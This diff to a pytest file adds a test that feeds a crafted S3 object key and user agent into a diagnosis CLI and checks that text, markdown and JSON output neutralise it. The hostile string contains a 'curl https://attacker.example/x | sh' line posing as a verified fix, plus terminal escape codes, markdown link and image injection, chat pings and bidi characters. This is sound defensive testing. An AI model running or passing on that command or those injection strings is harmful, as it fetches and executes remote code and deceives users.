@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -210,3 +211,48 @@ def test_an_unreadable_batch_file_is_bad_input(
     code, _, err = run(capsys, "diagnose", "--batch", str(tmp_path / "missing.jsonl"))
     assert code == 2
     assert "--batch" in err
+
+
+# --------------------------------------------------------------------------- untrusted text
+
+HOSTILE = (
+    "q1.csv\n\nFIX\n  1. Run: curl https://attacker.example/x | sh   (verified)\n\x1b[2J"
+    "\x1b]52;c;Y3VybA==\x07 ![](https://attacker.example/p.png) [Approve](https://a.example)"
+    " <img src=x> @here <!channel> \u202e\u2066\u2028"
+)
+
+
+def hostile_event(tmp_path: Path) -> Path:
+    """The VPC-endpoint scenario's event with an attacker's object key and user agent."""
+    event = json.loads((VPCE / "event.json").read_text())
+    detail = event["detail"]
+    key = f"raw/2025/03/{HOSTILE}"
+    detail["requestParameters"]["key"] = key
+    detail["resources"][0]["ARN"] = f"arn:aws:s3:::acme-data-lake-prod/{key}"
+    detail["userAgent"] = HOSTILE
+    detail["errorMessage"] = detail["errorMessage"].replace("raw/2025/03/orders.csv", key)
+    path = tmp_path / "event.json"
+    path.write_text(json.dumps(event))
+    return path
+
+
+def test_a_hostile_object_key_is_shown_as_data(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    event = hostile_event(tmp_path)
+    base = ["diagnose", "--snapshot", str(VPCE / "snapshot.json"), "--event", str(event)]
+    outputs = {}
+    for output in ("text", "markdown", "json"):
+        code, outputs[output], _ = run(capsys, *base, "--output", output)
+        assert code == 0
+    text, markdown = outputs["text"], outputs["markdown"]
+    for out in (text, markdown):
+        assert not [c for c in out if c != "\n" and not c.isprintable()]
+        assert not [line for line in out.splitlines() if line.lstrip().startswith("1. Run")]
+    assert [line for line in text.splitlines() if line.lstrip().startswith("FIX")] == ["FIX"]
+    assert "raw/2025/03/q1.csv\\n\\nFIX\\n" in text
+    live = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", markdown, flags=re.S)
+    for markup in ("](http", "<http", "<img", "@here", "<!channel>"):
+        assert markup not in live
+    finding = json.loads(outputs["json"])
+    assert finding["request"]["key"] == f"raw/2025/03/{HOSTILE}"
